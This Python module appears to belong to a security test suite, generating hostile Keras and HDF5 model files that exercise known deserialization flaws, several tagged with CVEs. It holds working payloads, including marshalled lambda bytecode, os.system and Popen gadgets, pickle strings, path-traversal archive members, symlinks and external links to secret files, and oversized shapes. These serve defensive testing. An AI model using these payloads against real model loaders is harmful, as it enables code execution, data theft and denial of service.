"""The ways in: for each, a generator of the file that tries it. Named after what it tries, with the CVE where it has one."""

from __future__ import annotations

import base64
import json
import marshal
import os
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING, Any

import h5py
from hostile import call, functional, hdf5, keras, layer, sequential, tensor

if TYPE_CHECKING:
    from conftest import Canary

__all__ = ["ATTACKS"]

ATTACKS: dict[str, Callable[[Canary], Path]] = {}
"""By name: from a canary to the hostile file, in the canary's folder."""


def attack(make: Callable[[Canary], Path]) -> Callable[[Canary], Path]:
    ATTACKS[make.__name__] = make
    return make


def configs(suffix: str) -> Callable[[Callable[[Canary], Any]], Callable[[Canary], Any]]:
    """An attack that is a config alone: tried in the container of that suffix, or in `both`."""

    def register(make: Callable[[Canary], Any]) -> Callable[[Canary], Any]:
        for kind, write in ((".h5", hdf5), (".keras", keras)):
            if suffix in (kind, "both"):
                ATTACKS[f"{make.__name__}{kind}"] = lambda c, w=write, k=kind: w(c.folder / f"model{k}", make(c))
        return make

    return register


def code(canary: Canary) -> str:
    """Marshalled code that leaves the canary's mark."""
    source = f"lambda x: (open({str(canary.mark)!r}, 'w').close(), x)[1]"
    return base64.b64encode(marshal.dumps(eval(compile(source, "x", "eval")).__code__)).decode()


def keras2_lambda(canary: Canary, **more: Any) -> dict[str, Any]:
    return layer("Lambda", function=[code(canary), None, None], function_type="lambda", module="__main__", arguments={},
                 output_shape=None, output_shape_type="raw", output_shape_module=None, **more)  # fmt: skip


def keras3_lambda(canary: Canary) -> dict[str, Any]:
    inner = {"code": code(canary), "defaults": None, "closure": None}
    return layer("Lambda", "keras.layers", function={"class_name": "__lambda__", "config": inner}, arguments={})


def function(module: str, name: str) -> dict[str, Any]:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


# --- Code in the file


@configs("both")
def lambda_bytecode_of_keras_2(canary: Canary) -> Any:
    """CVE-2024-3660, CVE-2025-9905: HDF5 files ran it whatever safe_mode said."""
    return sequential(keras2_lambda(canary))


@configs("both")
def lambda_bytecode_of_keras_3(canary: Canary) -> Any:
    return sequential(keras3_lambda(canary))


@configs("both")
def lambda_in_a_wrapper(canary: Canary) -> Any:
    return sequential(layer("TimeDistributed", layer=keras2_lambda(canary)), shape=(None, 3, 4))


@configs("both")
def lambda_in_a_nested_model(canary: Canary) -> Any:
    return sequential({**sequential(keras3_lambda(canary)), "module": "keras", "registered_name": "Sequential"})


@configs("both")
def lambda_as_an_activation(canary: Canary) -> Any:
    return sequential(layer("Activation", activation=keras3_lambda(canary)["config"]["function"]))


@configs("both")
def lambda_by_a_registered_name(canary: Canary) -> Any:
    return sequential({**keras3_lambda(canary), "module": None, "registered_name": "Custom>Lambda"})


@configs("both")
def lambda_with_a_function_of_a_module(canary: Canary) -> Any:
    """Keras 2 takes the module's names as globals of what it calls."""
    return sequential(layer("Lambda", function="run", function_type="function", module="hostile_module", arguments={},
                            output_shape=None, output_shape_type="raw"))  # fmt: skip


@configs("both")
def lambda_that_turns_safe_mode_off(canary: Canary) -> Any:
    """CVE-2025-9906: the file's first layer called `enable_unsafe_deserialization`."""
    opener = layer("Lambda", "keras.layers", function=function("keras.config", "enable_unsafe_deserialization"))
    return sequential(opener, keras3_lambda(canary))


# --- Names of modules, classes and functions


@configs("both")
def function_of_any_module(canary: Canary) -> Any:
    """CVE-2025-1550."""
    return sequential(layer("Lambda", "keras.layers", function=function("hostile_module", "run"),
                            arguments={"args": ["touch", str(canary.mark)]}))  # fmt: skip


@configs("both")
def function_of_os(canary: Canary) -> Any:
    """CVE-2025-1550."""
    return sequential(layer("Lambda", "keras.layers", function=function("os", "system"),
                            arguments={"command": f"touch {canary.mark}"}))  # fmt: skip


@configs("both")
def class_of_any_module(canary: Canary) -> Any:
    return sequential({"module": "subprocess", "class_name": "Popen", "registered_name": None,
                       "config": {"name": "p", "args": ["touch", str(canary.mark)]}})  # fmt: skip


@configs("both")
def class_of_a_private_module_of_keras(canary: Canary) -> Any:
    return sequential({"module": "keras.src.utils.file_utils", "class_name": "get_file", "registered_name": None,
                       "config": {"name": "f", "fname": str(canary.mark), "origin": "http://127.0.0.1:9/a"}})  # fmt: skip


@configs("both")
def download_by_get_file(canary: Canary) -> Any:
    """CVE-2025-8747: a function of Keras' own as the gadget."""
    return sequential(layer("Lambda", "keras.layers", function=function("keras.utils", "get_file"),
                            arguments={"origin": f"file://{canary.secret}", "fname": str(canary.mark)}))  # fmt: skip


@configs("both")
def loading_another_model(canary: Canary) -> Any:
    return sequential(layer("Lambda", "keras.layers", function=function("keras.models", "load_model")))


@configs("both")
def setting_the_float_type(canary: Canary) -> Any:
    return sequential(layer("Activation", activation=function("keras.config", "set_floatx")))


@configs("both")
def a_module_as_an_activation(canary: Canary) -> Any:
    """tf_keras looks activations up among the globals of its own module."""
    return sequential(layer("Activation", activation="tf"))


@configs("both")
def a_helper_as_an_activation(canary: Canary) -> Any:
    return sequential(layer("Activation", activation="deserialize_keras_object"))


@configs("both")
def type_spec_of_any_module(canary: Canary) -> Any:
    """tf_keras imports the module that a type spec names."""
    spec = {"class_name": "__typespec__", "config": [[None, 4], "float32", None], "spec_name": "run",
            "module": "hostile_module", "registered_name": "x"}  # fmt: skip
    entry = {"class_name": "InputLayer", "config": {"name": "i", "batch_input_shape": [None, 4], "type_spec": spec},
             "module": "keras.layers", "registered_name": None}  # fmt: skip
    return {"class_name": "Sequential", "config": {"name": "s", "layers": [entry]}}


@configs("both")
def class_in_a_build_config(canary: Canary) -> Any:
    made = layer("Dropout", "keras.layers", rate=0.5)
    return sequential({**made, "build_config": {"input_shape": [None, 4], "x": function("hostile_module", "run")}})


@configs("both")
def class_without_a_config(canary: Canary) -> Any:
    return sequential(layer("Dense", units=1, kernel_initializer={"class_name": "Zeros", "module": "hostile_module"}))


@configs("both")
def layer_as_an_initializer(canary: Canary) -> Any:
    return sequential(layer("PReLU", alpha_initializer=layer("Dropout", "keras.layers", rate=0.5)))


@configs("both")
def passive_object(canary: Canary) -> Any:
    passive = {"__passive_serialization__": True, "class_name": "Popen", "config": {}, "module": "subprocess"}
    return sequential(layer("Dropout", rate=0.5, noise_shape=passive))


@configs("both")
def pickle_in_a_torch_layer(canary: Canary) -> Any:
    """CVE-2025-49655."""
    pickled = base64.b64encode(b"cos\nsystem\n(S'true'\ntR.").decode()
    return sequential(
        layer("TorchModuleWrapper", "keras.layers", module={"class_name": "__bytes__", "config": {"value": pickled}})
    )


@configs("both")
def function_of_jax(canary: Canary) -> Any:
    return sequential(layer("JaxLayer", "keras.layers", call_fn=function("hostile_module", "run")))


@configs("both")
def metric_over_a_helper(canary: Canary) -> Any:
    return sequential({"class_name": "MeanMetricWrapper", "config": {"name": "m", "fn": "serialize_keras_object"}})


# --- Paths


@configs("both")
def vocabulary_from_a_file(canary: Canary) -> Any:
    """CVE-2025-12058."""
    return sequential(layer("StringLookup", vocabulary=str(canary.secret)))


@configs("both")
def vocabulary_from_the_network(canary: Canary) -> Any:
    """CVE-2025-12058."""
    return sequential(layer("TextVectorization", vocabulary="http://127.0.0.1:9/vocabulary.txt"))


@configs("both")
def vocabulary_of_integers_from_a_file(canary: Canary) -> Any:
    return sequential(layer("IntegerLookup", vocabulary=str(canary.secret)))


@configs("both")
def vocabulary_in_a_wrapper(canary: Canary) -> Any:
    return sequential(layer("TimeDistributed", layer=layer("StringLookup", vocabulary=str(canary.secret))))


@configs("both")
def saved_model_of_another_place(canary: Canary) -> Any:
    return sequential(layer("TFSMLayer", "keras.layers", filepath=str(canary.folder / "saved"), call_endpoint="serve"))


# --- Operations


@configs("both")
def operation_that_writes_a_file(canary: Canary) -> Any:
    made = layer("TFOpLambda", function="io.write_file")
    node = [["in", 0, 0, {"filename": str(canary.mark), "contents": "x"}]]
    inner = sequential()["config"]["layers"][0]
    rows = [{**inner, "name": "in", "inbound_nodes": []}, {**made, "name": "w", "inbound_nodes": node}]
    made["config"]["name"] = "w"
    return {"class_name": "Functional", "config": {"name": "f", "layers": rows, "input_layers": [["in", 0, 0]],
                                                   "output_layers": [["w", 0, 0]]}}  # fmt: skip


@configs("both")
def graph_node_that_writes_a_file(canary: Canary) -> Any:
    node = {"name": "w", "op": "WriteFile", "input": ["in", "w/contents"], "attr": {}}
    return sequential(layer("TensorFlowOpLayer", node_def=node, constants={"0": str(canary.mark)}))


@configs("both")
def operation_that_maps_a_function(canary: Canary) -> Any:
    made = layer("VectorizedMap", "keras.ops", function=function("hostile_module", "run"))
    return functional([(made, [call(tensor("in", None, 4))])])


@configs("both")
def object_among_the_arguments_of_a_call(canary: Canary) -> Any:
    made = layer("Dropout", "keras.layers", rate=0.5)
    return functional([(made, [call(tensor("in", None, 4), training=function("hostile_module", "run"))])])


@configs("both")
def call_on_constants(canary: Canary) -> Any:
    made = layer("Ones", "keras.src.ops.numpy")
    return functional([(made, [call([100000, 100000])])])


# --- Sizes


@configs("both")
def a_kernel_of_40_gigabytes(canary: Canary) -> Any:
    return sequential(layer("Dense", units=10**10))


@configs("both")
def a_kernel_of_80_gigabytes_in_two_layers(canary: Canary) -> Any:
    return sequential(layer("Dense", units=10**5), {"class_name": "Dense", "config": {"name": "b", "units": 2 * 10**5}})


@configs("both")
def a_table_of_4_terabytes(canary: Canary) -> Any:
    return sequential(layer("Embedding", input_dim=10**6, output_dim=10**6))


@configs("both")
def an_output_of_terabytes(canary: Canary) -> Any:
    return sequential(*({"class_name": "UpSampling2D", "config": {"name": f"u{i}", "size": [1000, 1000]}} for i in range(3)),
                      shape=(None, 8, 8, 1))  # fmt: skip


@configs("both")
def outputs_that_double(canary: Canary) -> Any:
    calls, last = [], "in"
    for i in range(45):
        made = {"class_name": "Concatenate", "module": "keras.layers", "registered_name": None,
                "config": {"name": f"c{i}", "axis": -1}}  # fmt: skip
        calls.append((made, [call([tensor(last, None, 4 * 2**i)] * 2)]))
        last = f"c{i}"
    return functional(calls)


@configs("both")
def a_list_of_a_billion_words(canary: Canary) -> Any:
    return sequential(layer("StringLookup", vocabulary=["a"], num_oov_indices=10**9))


@configs("both")
def a_shape_of_a_number_with_500_digits(canary: Canary) -> Any:
    return sequential(layer("Reshape", target_shape=[10**500]))


@configs("both")
def a_deep_nest(canary: Canary) -> Any:
    config = sequential(layer("Dropout", rate=0.1))
    for _ in range(2000):
        config = {"class_name": "Sequential", "config": {"name": "s", "layers": [config]}}
    return json.loads(json.dumps(config)) if False else sequential(layer("Dropout", rate=0.1, noise_shape=_deep(900)))


def _deep(depth: int) -> Any:
    value: Any = 1
    for _ in range(depth):
        value = [value]
    return value


# --- Containers


@attack
def member_outside_the_folder(canary: Canary) -> Path:
    return keras(canary.folder / "model.keras", sequential(layer("Dropout", rate=0.5)), members={"../it-worked": b"x"})


@attack
def member_with_an_absolute_path(canary: Canary) -> Path:
    return keras(
        canary.folder / "model.keras", sequential(layer("Dropout", rate=0.5)), members={str(canary.mark): b"x"}
    )


@attack
def config_twice(canary: Canary) -> Path:
    path = keras(canary.folder / "model.keras", sequential(layer("Dropout", rate=0.5)))
    with zipfile.ZipFile(path, "a") as archive, pytest_warns():
        archive.writestr("config.json", json.dumps(sequential(keras2_lambda(canary))))
    return path


def pytest_warns() -> Any:
    import pytest

    return pytest.warns(UserWarning, match="Duplicate name")


@attack
def key_twice(canary: Canary) -> Path:
    text = json.dumps(sequential(layer("Dropout", rate=0.5)))
    twice = text[:-1] + ', "class_name": "Model"}'
    return keras(canary.folder / "model.keras", twice)


@attack
def weights_in_another_file(canary: Canary) -> Path:
    """CVE-2026-1669: an external link."""
    path = hdf5(canary.folder / "model.h5", sequential(layer("Dense", units=1)))
    with h5py.File(path, "a") as file:
        file["model_weights/dense"] = h5py.ExternalLink("/etc/hostname", "/x")
    return path


@attack
def weights_from_the_bytes_of_another_file(canary: Canary) -> Path:
    """External storage: any file's bytes become weights."""
    path = hdf5(canary.folder / "model.h5", sequential(layer("Dense", units=1)))
    with h5py.File(path, "a") as file:
        group = file["model_weights"].create_group("dense")
        group.attrs["weight_names"] = [b"kernel"]
        group.create_dataset("kernel", (4, 1), "f4", external=[(str(canary.secret), 0, 16)])
        file["model_weights"].attrs["layer_names"] = [b"dense"]
    return path


@attack
def weights_of_a_shape_without_storage(canary: Canary) -> Path:
    """CVE-2026-0897: a dataset that claims terabytes and stores nothing."""
    path = hdf5(canary.folder / "model.h5", sequential(layer("Dense", units=1)))
    with h5py.File(path, "a") as file:
        group = file["model_weights"].create_group("dense")
        group.attrs["weight_names"] = [b"kernel"]
        group.create_dataset("kernel", (10**7, 10**5), "f4", chunks=(1000, 1000))
        file["model_weights"].attrs["layer_names"] = [b"dense"]
    return path


@attack
def a_pickle_by_the_name_of_a_model(canary: Canary) -> Path:
    path = canary.folder / "model.keras"
    path.write_bytes(f"cos\nsystem\n(S'touch {canary.mark}'\ntR.".encode())
    return path


@attack
def a_link_out_of_the_directory(canary: Canary) -> Path:
    folder = canary.folder / "model"
    folder.mkdir()
    (folder / "config.json").write_text(json.dumps(sequential(layer("Dropout", rate=0.5))))
    (folder / "metadata.json").write_text('{"keras_version": "3.15.1"}')
    os.symlink(canary.secret, folder / "model.weights.h5")
    return folder
